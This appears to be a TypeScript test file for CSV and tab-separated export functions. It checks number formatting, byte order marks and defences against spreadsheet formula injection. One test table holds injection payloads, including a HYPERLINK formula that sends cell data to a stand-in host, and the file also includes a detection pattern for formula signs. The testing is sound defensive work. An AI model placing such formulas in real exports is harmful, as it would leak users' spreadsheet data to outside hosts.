import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { displayName } from '#src/contract/butlr-values.ts'
import { parseCsv } from '#src/testing/parse-csv.ts'
import { type Cell, formatCsv, formatTabSeparated, toSafeText } from './csv.ts'

const rowsOf = (...rows: Cell[][]) => ({ title: 'Rooms', details: [], rows })
const cellIn = (cell: Cell) => parseCsv(formatCsv(rowsOf([cell, 'end'])))[2]?.[0]

test('writes a byte order mark, a title, details, an empty line and the rows', () => {
  expect(
    formatCsv({
      title: 'Rooms, Main building',
      details: [['Filters', 'none']],
      rows: [
        ['Room', 'People'],
        ['Prüfraum "Süd"', 4],
        ['Maple', null],
      ],
    }),
  ).toBe(
    '\uFEFF"Rooms, Main building"\r\nFilters,none\r\n\r\nRoom,People\r\n"Prüfraum ""Süd""",4\r\nMaple,\r\n',
  )
})

test('exports a name in a right-to-left script without its isolate characters', () => {
  const name = displayName('אורן')
  expect(cellIn(name)).toBe('אורן')
  expect(formatTabSeparated(rowsOf([name, 4]))).toBe('Rooms\n\nאורן\t4')
})

test('encodes the byte order mark as UTF-8', () => {
  expect([...new TextEncoder().encode(formatCsv(rowsOf()))].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf])
})

test.each([
  [1_000_000_000, '1000000000'],
  [-3, '-3'],
  [-0, '0'],
  [-0.000_000_1, '0'],
  [4.25, '4.25'],
  [30 / 7, '4.285714'],
  [Number.NaN, ''],
  [Number.POSITIVE_INFINITY, ''],
  [null, ''],
])('writes %s as "%s"', (cell, text) => {
  expect(cellIn(cell)).toBe(text)
})

test.each([
  ['=HYPERLINK("http://host.example/?"&A1,"x")', `'=HYPERLINK("http://host.example/?"&A1,"x")`],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['\rcalc', "'\rcalc"],
  ['\tcalc', "'\tcalc"],
  ['  =1', "'  =1"],
  ['\u00a0\u200b=1', "'\u00a0\u200b=1"],
  ['＝1', "'＝1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠A1', "'＠A1"],
  ['a\n=1', "a\n'=1"],
  ['a;=1', "a;'=1"],
])('adds an apostrophe where a spreadsheet would run %j', (name, text) => {
  expect(cellIn(name)).toBe(text)
})

test.each(['-1', '-4.5', 'Room = 3', 'A-1', 'a, b', 'he said "no"', ' padded ', 'two\nlines', ''])(
  'does not change the harmless text %j',
  (name) => {
    expect(cellIn(name)).toBe(name)
  },
)

test('copies title, details and rows, separates cells with tabs, removes tabs and line breaks inside cells, and escapes cells as in a file', () => {
  expect(
    formatTabSeparated({
      title: '=Rooms',
      details: [['Location', '@here']],
      rows: [
        ['a\tb', '=1', -3],
        ['"c', 'e\nf', null],
      ],
    }),
  ).toBe(`'=Rooms\nLocation\t'@here\n\na b\t'=1\t-3\n"""c"\te f\t`)
})

test('a copied name stays in one cell, whatever line breaks and control characters it contains', () => {
  const name = '🏢 a\tb\r\nc\vd\fe\u0085f\u001Eg\u2028h\u2029i\0j'
  expect(formatTabSeparated(rowsOf([name, 4]))).toBe('Rooms\n\n🏢 a b c d e f g h i j\t4')
})

const separators = [' ', '\t', '\r', '\n', '\r\n', ',', ';']
const formulaSigns = ['=', '+', '-', '@', '＝', '－']
const others = ['"', '""', "'", '\u00a0', '\u200b', '\ufeff', '1', '.', 'ü', '会', '🏢', 'a']
const awkwardPart = fc.constantFrom(...separators, ...formulaSigns, ...others)
const text = fc.oneof(
  fc.array(awkwardPart, { maxLength: 8 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary' }),
)
const cell: fc.Arbitrary<Cell> = fc.oneof(text, fc.integer(), fc.double(), fc.constant(null))
const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 5 })

test('an independent parser reads the cells that were written', () => {
  fc.assert(
    fc.property(rows, (written) => {
      const [, , ...read] = parseCsv(formatCsv(rowsOf(...written)))
      expect(read).toEqual(written.map((cells) => cells.map(toSafeText)))
    }),
  )
})

test('numbers keep their value to six decimals, without grouping, exponent or negative zero', () => {
  fc.assert(
    fc.property(fc.double({ min: -1e12, max: 1e12, noNaN: true }), (value) => {
      const text = toSafeText(value)
      expect(text).toMatch(/^-?\d+(\.\d{1,6})?$/)
      expect(text).not.toBe('-0')
      expect(Math.abs(Number(text) - value)).toBeLessThanOrEqual(5e-7 + Math.abs(value) * 1e-15)
    }),
  )
})

/**
 * Returns whether a spreadsheet would run a cell as a formula. Spreadsheets skip leading white space, and treat
 * full-width characters like their ASCII equivalents.
 */
const isRun = (shown: string) =>
  /^[=+\-@]/.test(shown.replace(/^[\s\p{Cc}\p{Cf}\p{Z}\u2800]+/u, '').normalize('NFKC')) &&
  !/^-\d+(\.\d+)?$/.test(shown)

test('adds an apostrophe before characters that normalization turns into formula signs', () => {
  const characters = Array.from({ length: 0x11_00_00 }, (_, code) => String.fromCodePoint(code))
  expect(characters.filter((one) => isRun(one) && !toSafeText(`${one}A1`).startsWith("'"))).toEqual(
    [],
  )
})

test('a spreadsheet runs no cell as a formula, even if they expect semicolons or tabs as separators', () => {
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 1 })), (written) => {
      const file = formatCsv(rowsOf(...written))
      expect(parseCsv(file).flat().filter(isRun)).toEqual([])
      for (const separator of [';', '\t']) {
        const cells = file.slice(1).split(new RegExp(`["\r\n]*[${separator}\r\n]+`))
        expect(cells.filter((shown) => isRun(shown))).toEqual([])
      }
      const copied = formatTabSeparated(rowsOf(...written)).split(/[\t\n]/)
      expect(copied.filter(isRun)).toEqual([])
    }),
  )
})
